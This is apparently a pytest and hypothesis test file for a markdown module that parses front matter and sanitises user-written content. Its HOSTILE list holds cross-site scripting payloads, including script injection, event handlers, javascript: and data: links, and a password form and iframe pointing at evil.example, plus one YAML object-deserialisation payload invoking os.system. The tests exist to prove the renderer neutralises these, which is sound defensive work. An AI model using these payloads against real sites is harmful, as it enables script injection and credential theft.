"""Markdown from people: what is written comes back, mistakes are named, and nothing in it runs."""

from __future__ import annotations

import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from directory.content import markdown
from directory.content.markdown import LONGEST, dump, parse, plain, render
from directory.errors import Invalid
from tests.content.documents import faults, hostile, slow, unsafe

text = st.text(st.characters(codec="utf-8"), max_size=40)
# By the million: scripts/fuzz markdown.
HOSTILE_DOCUMENTS = 250
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.dates(), text)
plain_data = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3))
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<a href="x" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVa\tScript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<form action="//evil.example"><input name=password></form>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    '[x]: javascript:alert(1) "t"\n\n[x]',
    "<<script>script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
# The tab of "JaVa\tScript:" becomes spaces, which a browser does not leave out: it sees no scheme, only a path.
ALLOWED = re.compile(
    r'\s*/?|( href="((https?://|mailto:|tel:|/)[^"]*|x||JaVa +Script:alert\(1\))"| rel="noopener"| title="t")+'
)
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)


@given(st.dictionaries(text, plain_data, max_size=4), text)
def test_what_is_dumped_is_parsed_back(facts: dict[str, object], body: str) -> None:
    written = dump(facts, body)
    found = parse(written)
    # A file is read with one kind of line end, whatever an editor made of it.
    assert (found.facts, found.body) == (facts, re.sub("\r\n?", "\n", body).strip())


@pytest.mark.parametrize(
    "value",
    [
        "---",
        "a\n---\nb",
        'say "no": yes',
        "yes",
        "2026-01-01",
        "01632 960145",
        "# not a comment",
        "a\r\nb",
        "é😀",
        "@x",
    ],
)
def test_text_that_yaml_finds_hard(value: str) -> None:
    assert parse(dump({"title": value}, value)).facts == {"title": value}


def test_front_matter_that_editors_save() -> None:
    for written in (
        "---\ntitle: A\nday: 2026-12-01\n---\n\nBody\n",
        "---\r\ntitle: A\r\nday: 2026-12-01\r\n---\r\n\r\nBody\r\n",
        "\ufeff---\ntitle: A\nday: 2026-12-01\n---\nBody",
    ):
        found = parse(written)
        assert found.facts == {"title": "A", "day": date(2026, 12, 1)}
        assert found.body == "Body"


@pytest.mark.parametrize("body", ["Only a body", "", "{\n}", "+++\nx\n+++", "Before\n---\ntitle: A\n---\nafter"])
def test_a_file_without_front_matter_is_all_body(body: str) -> None:
    found = parse(body)
    assert (found.facts, found.body) == ({}, body)


@pytest.mark.parametrize(
    ("front", "reason"),
    [
        ("title: A\nservices: [unclosed\nkinds: x", r"x\.md: .*line [345]\)"),
        ("title: A\n  indented: wrong: twice", r"x\.md: .*line 3\)"),
        ("- a\n- b", r"x\.md: .*must be a mapping"),
        ("just words", r"x\.md: .*must be a mapping"),
        ("title: A\ntitle: B", r"x\.md: .*line 3.*title is given twice"),
        ("day: 2026-13-45", r"x\.md: .*not readable"),
        ("a: " + "[" * 5000, r"x\.md: .*not readable"),
        ("title: !!python/object:os.system x", r"x\.md: .*not readable"),
        ("? [a, b]\n: c", r"x\.md: .*not readable"),
    ],
)
def test_mistakes_in_front_matter_name_the_file_and_the_line(front: str, reason: str) -> None:
    with pytest.raises(Invalid, match=reason) as refusal:
        parse(f"---\n{front}\n---\nBody", where="x.md")
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_people_write_runs(hostile: str) -> None:
    for html in (render(hostile), render(f"Before\n\n{hostile}\n\n> - {hostile}")):
        for name, attributes in TAG.findall(html):
            assert name not in {"script", "style", "iframe", "svg", "img", "form", "input", "base", "meta", "math"}
            assert ALLOWED.fullmatch(attributes)


@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "a", "\n", "`", "](", "[", "&"]), max_size=8).map("".join)
)
def test_nothing_runs_however_it_is_put_together(hostile: str) -> None:
    for _, attributes in TAG.findall(render(hostile)):
        assert not re.search(r"\bon\w+\s*=|style\s*=|src\s*=", attributes)
        assert not re.search(r'href="\s*(javascript|data|vbscript):', attributes, re.IGNORECASE)


def test_what_people_need_is_rendered() -> None:
    html = render(
        "## Why\n\n- **A** [site](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<mailto:a@b.example>"
    )
    for part in ("<h2>Why</h2>", "<strong>A</strong>", 'href="https://a.example"', "<td>1</td>", "<li>"):
        assert part in html


def test_links_to_services() -> None:
    assert 'href="/services/leg-ulcer-clinic"' in render("[Legs](service:leg-ulcer-clinic)")
    absolute = render("[Legs](service:legs)", service_link=lambda slug: f"https://s.example/services/{slug}")
    assert 'href="https://s.example/services/legs"' in absolute
    assert "href" not in render("[Legs](service:../../x)")


def test_very_long_text_is_cut() -> None:
    assert len(render("a" * (LONGEST + 500))) == LONGEST + len("<p></p>")


@pytest.mark.parametrize(
    "piece", ["[", "![", "[[a](b)", "*_", "**a *b ", "`", "``a`", "<", "<!--", "<?", "[a]: /b\n", "> ", "  - ", "|"]
)
def test_no_mark_however_often_holds_up_a_page(piece: str) -> None:
    text = piece * (LONGEST // len(piece))
    assert not slow(text)


def test_what_would_take_too_long_is_shown_as_it_is_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "LONGEST_SECONDS", 0)
    assert render("**Adults** <script>") == "<pre>**Adults** &lt;script&gt;</pre>"


def test_what_lies_deeper_than_the_parser_goes_is_not_lost() -> None:
    for mark in ("> ", "- ", "1. "):
        for deep in range(60):
            assert "Ring the ward" in plain(f"{mark * deep}Ring the ward")


def test_a_link_that_is_named_once_and_used_often_does_not_grow_beyond_measure() -> None:
    text = f"[a]: /{'x' * 20_000}\n\n" + "[a] " * 7_000
    assert len(render(text)) < 2 * LONGEST


def test_half_a_character_does_not_break_a_page() -> None:
    assert render("a\ud800b") == "<p>a?b</p>"


def test_hostile_documents() -> None:
    assert {seed: found for seed in range(HOSTILE_DOCUMENTS) if (found := faults(hostile(seed)))} == {}


@pytest.mark.parametrize(
    "shown",
    ["<script>x</script>", '<a href="javascript:x">x</a>', '<p onclick="x">x</p>', "<svg></svg>", '<p style="x">x</p>'],
)
def test_what_looks_at_the_pages_would_see_it(shown: str) -> None:
    assert unsafe(shown)


def test_a_bracket_that_begins_no_link_is_shown() -> None:
    assert render("[x] and [y and [z](https://a.example)[") == (
        '<p>[x] and [y and <a href="https://a.example" rel="noopener">z</a>[</p>'
    )


def test_the_words_of_a_text() -> None:
    assert plain("## Why\n\n**Adults** &amp; [children](https://a.example)\n\n- < 18") == "Why Adults & children < 18"
